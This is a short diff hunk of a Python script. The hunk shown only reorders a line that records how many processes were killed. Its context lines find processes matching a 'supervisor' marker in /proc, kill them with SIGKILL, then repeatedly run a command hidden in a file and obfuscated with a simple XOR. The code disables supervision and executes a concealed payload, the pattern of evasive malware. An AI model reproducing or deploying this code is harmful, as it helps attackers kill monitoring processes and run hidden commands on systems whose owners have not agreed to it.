@@ -238,8 +238,8 @@ def supervisors():
             if named and mark in open(f'/proc/{pid}/cmdline', 'rb').read(): yield int(pid)
         except OSError: pass
 found = list(supervisors())
+with open('killed', 'w') as file: file.write(str(len(found)))
 for pid in found: os.kill(pid, signal.SIGKILL)
-open('killed', 'w').write(str(len(found)))
 for _ in range(20):
     try: subprocess.run(bytes(byte ^ 7 for byte in open('hid', 'rb').read()).decode().split('\n'))
     except OSError: pass
